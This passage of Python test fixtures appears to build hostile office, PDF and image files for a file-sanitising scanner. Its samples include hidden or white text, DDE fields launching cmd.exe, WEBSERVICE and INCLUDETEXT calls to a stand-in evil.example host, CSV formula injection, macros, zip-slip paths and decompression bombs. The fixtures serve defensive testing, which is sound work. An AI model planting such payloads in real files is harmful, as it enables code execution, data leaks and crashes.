    "hidden.docx": docx(paragraph("x") + paragraph("secret", "<w:rPr><w:vanish/></w:rPr>")),
    "hidden-by-style.docx": docx(
        paragraph("x") + paragraph("secret", '<w:rPr><w:rStyle w:val="b"/></w:rPr>'),
        parts=word_styles(("a", "", "<w:vanish/>"), ("b", "a", "<w:b/>")),
    ),
    "styles-in-a-circle.docx": docx(
        paragraph("x", '<w:rPr><w:rStyle w:val="b"/></w:rPr>'), parts=word_styles(("a", "b", ""), ("b", "a", WHITE))
    ),
    "white.docx": docx(paragraph("x") * 2 + paragraph("secret", WHITE)),
    "white-behind-dark-cell.docx": docx(
        f"<w:tbl><w:tr>{DARK}{paragraph('项目')}</w:tc><w:tc>{paragraph('secret', WHITE)}</w:tc></w:tr></w:tbl>"
    ),
    "white-by-table.docx": table_styled(whole='<w:color w:val="FFFFFF"/>'),
    "white-by-first-row.docx": table_styled(part_of_table("firstRow", "FFFFFF")),
    "white-by-band.docx": table_styled(part_of_table("band1Horz", "FFFFFF")),
    "white-in-cells-of-their-own-ground.docx": table_styled(
        part_of_table("firstRow", "FFFFFF", "1F3864"), cell='<w:tcPr><w:shd w:val="clear" w:fill="FFFFFF"/></w:tcPr>'
    ),
    "hidden-by-table.docx": table_styled(whole="<w:vanish/>"),
    "white-by-usual-paragraph.docx": docx(
        paragraph("secret"),
        parts={"word/styles.xml": f"<w:styles {W}>{USUAL_WHITE}</w:styles>"},
    ),
    "white-by-condition.xlsx": changed(),
    "white-by-table.xlsx": changed(table=True),
    "tiny.docx": docx(paragraph("secret", '<w:rPr><w:sz w:val="2"/></w:rPr>')),
    "white.xlsx": styled('<color rgb="FFFFFFFF"/>', '<patternFill patternType="none"/>'),
    "white-of-theme.xlsx": styled('<color theme="0"/>', '<patternFill><fgColor rgb="FFFFFFFF"/></patternFill>'),
    "tiny.xlsx": styled('<sz val="1"/>'),
    "format-of-nothing.xlsx": styled(code=";;;", text="<v>12</v>", kind=""),
    "format-of-no-text.xlsx": styled(code=";;;"),
    "white.pdf": pdf(content=b"BT /F1 12 Tf 20 100 Td 1 1 1 rg (secret) Tj ET"),
    "tiny.pdf": pdf(content=b"BT /F1 12 Tf 0.05 0 0 0.05 20 100 Tm (secret) Tj ET"),
    "not-painted.pdf": pdf(content=b"BT /F1 12 Tf 3 Tr 20 100 Td (secret) Tj ET"),
    "packed-picture-with-place.pdf": pdf(
        stream(
            zlib.compress(jpeg(exif(gps=GPS))),
            "/Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceGray"
            "/Filter[/FlateDecode/DCTDecode]",
        ),
    ),
    "place-in-picture.docx": docx(parts={"word/media/image1.jpeg": jpeg(exif(gps=GPS))}),
    "zip-in-picture.docx": docx(parts={"word/media/image1.png": png(tail=ZIP)}),
    # Office that acts
    "macros.docx": docx(parts={"word/vbaProject.bin": b"x"}),
    "macros.docm": docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "macros-as-docx.docx": docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "template.dotx": docx(main="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
    "macros.xlsm": xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "template-from-outside.docx": docx(
        parts={"word/_rels/settings.xml.rels": rels(("attachedTemplate", "https://evil.example/x.dotm", EXTERNAL))}
    ),
    "picture-from-outside.docx": docx(None, ("image", "https://evil.example/t.png", EXTERNAL)),
    "frame-from-outside.docx": docx(None, ("frame", "\\\\evil\\share", EXTERNAL)),
    "link-to-share.docx": docx(None, ("hyperlink", "\\\\evil\\share", EXTERNAL)),
    "link-to-script.docx": docx(None, ("hyperlink", "javascript:alert(1)", EXTERNAL)),
    "link-to-disk.docx": docx(None, ("hyperlink", "file:///C:/Users/x/a.docx", EXTERNAL)),
    "ole.docx": docx(parts={"word/embeddings/oleObject1.bin": b"x"}),
    "embedded-sheet.docx": docx(parts={"word/embeddings/Sheet.xlsx": xlsx()}),
    "object.docx": docx("<w:p><w:r><w:object/></w:r></w:p>"),
    "html-chunk.docx": docx('<w:altChunk r:id="r1" xmlns:r="x"/>'),
    "active-x.docx": docx(parts={"word/activeX/activeX1.bin": b"x"}),
    "program-inside.docx": docx(parts={"word/media/run.exe": b"MZ"}),
    "svg-inside.docx": docx(parts={"word/media/image1.svg": "<svg/>"}),
    "html-as-picture.docx": docx(parts={"word/media/image1.png": HTML}),
    "path-outside.docx": docx(parts={"../../x.xml": "<a/>"}),
    "dde.docx": docx(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "dde-in-pieces.docx": docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r></w:p>'
        "<w:p><w:r><w:instrText>EAUTO cmd</w:instrText></w:r></w:p>"
    ),
    "dde-by-numbers.docx": docx(field(" QUOTE 68 68 69 65 85 84 79 ")),
    "dde-simple.docx": docx('<w:p><w:fldSimple w:instr=" DDE cmd x "/></w:p>'),
    "include-text.docx": docx(field(' INCLUDETEXT "https://evil.example/x"')),
    "include-picture.docx": docx(field(' INCLUDEPICTURE "https://evil.example/x.png" \\d')),
    "external-link.xlsx": xlsx(
        parts={
            "xl/externalLinks/externalLink1.xml": f"<externalLink {S}/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels(("externalLinkPath", "file:///C:/a.xlsx", EXTERNAL)),
        }
    ),
    "connection.xlsx": xlsx(parts={"xl/connections.xml": f"<connections {S}/>"}),
    "dde.xlsx": xlsx(formula("cmd|'/c calc'!A0")),
    "web.xlsx": xlsx(formula('WEBSERVICE("https://evil.example/"&amp;A1)')),
    "hyperlink.xlsx": xlsx(formula('HYPERLINK("https://evil.example/"&amp;A1,"x")')),
    "other-book.xlsx": xlsx(formula("[1]Sheet1!A1")),
    "macro-sheet.xlsx": xlsx(parts={"xl/macrosheets/sheet1.xml": "<x/>"}),
    "hidden-sheet.xlsx": BLANK,
    "hidden-row.xlsx": xlsx(
        "<row r='1'><c r='A1'><v>1</v></c></row><row r='2' hidden='1'><c r='A2'><v>2</v></c></row>"
    ),
    "hidden-column.xlsx": xlsx(
        "<row r='1'><c r='A1'><v>1</v></c><c r='B1'><v>2</v></c></row>",
        head="<cols><col min='2' max='2' hidden='1'/></cols>",
    ),
    "comments.xlsx": xlsx(
        parts={"xl/comments1.xml": f"<comments {S}><comment><text><t>why?</t></text></comment></comments>"}
    ),
    "pivot.xlsx": xlsx(parts={"xl/pivotCache/pivotCacheRecords1.xml": f"<pivotCacheRecords {S}/>"}),
    "formula.csv": "项目,数值\n甲,=cmd|' /C calc'!A0\n乙,@SUM(1)\n丙,＝1+1\n".encode(),
    "plus.csv": b"a,b\n+1+1|cmd,2\n",
}
HOSTILE["hidden-sheet.xlsx"] = packed(
    xlsx_parts(state='<sheet name="底稿" sheetId="2" state="veryHidden" r:id="r2"/>')
    | {
        "xl/_rels/workbook.xml.rels": rels(
            ("worksheet", "worksheets/sheet1.xml", ""), ("worksheet", "worksheets/sheet2.xml", "")
        ),
        "xl/worksheets/sheet2.xml": f"<worksheet {S}><sheetData>{cells(['内部'])}</sheetData></worksheet>",
    }
)


def _filtered(data, filters):
    objects = [
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R>>",
        stream(data, f"/Filter[{filters}]"),
    ]
    return assembled(objects, "/Root 1 0 R")


HOSTILE["flate-bomb.pdf"] = _filtered(zlib.compress(b"0 0 m " * 50_000_000, 9), "/FlateDecode")
HOSTILE["nested-filters.pdf"] = _filtered(nested_bomb(3), "/FlateDecode/FlateDecode/FlateDecode")


def _twice():
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, text in docx_parts().items():
            package.writestr(name, text)
        package.writestr("word/Document.xml", "<x/>")
    return out.getvalue().replace(b"word/Document.xml", b"word/document.xml")


HOSTILE["same-part-twice.docx"] = _twice()


def _between():
    """An archive with something between two of its parts, which no list names."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, text in docx_parts().items():
            package.writestr(name, text)
            if name == "[Content_Types].xml":
                out.write(b"secret" * 10)
                package.start_dir = out.tell()
    return out.getvalue()


HOSTILE["part-between.docx"] = _between()


def _zip_in_comment():
    """The comment of the archive is the rest of the picture."""
    rest = len(jpeg()) - len(jpeg()[: 2 + 18])
    inner = packed({"a": "x"})
    return jpeg(segment(0xFE, inner[:-2] + struct.pack("<H", rest)))


HOSTILE["zip-in-comment.jpg"] = _zip_in_comment()
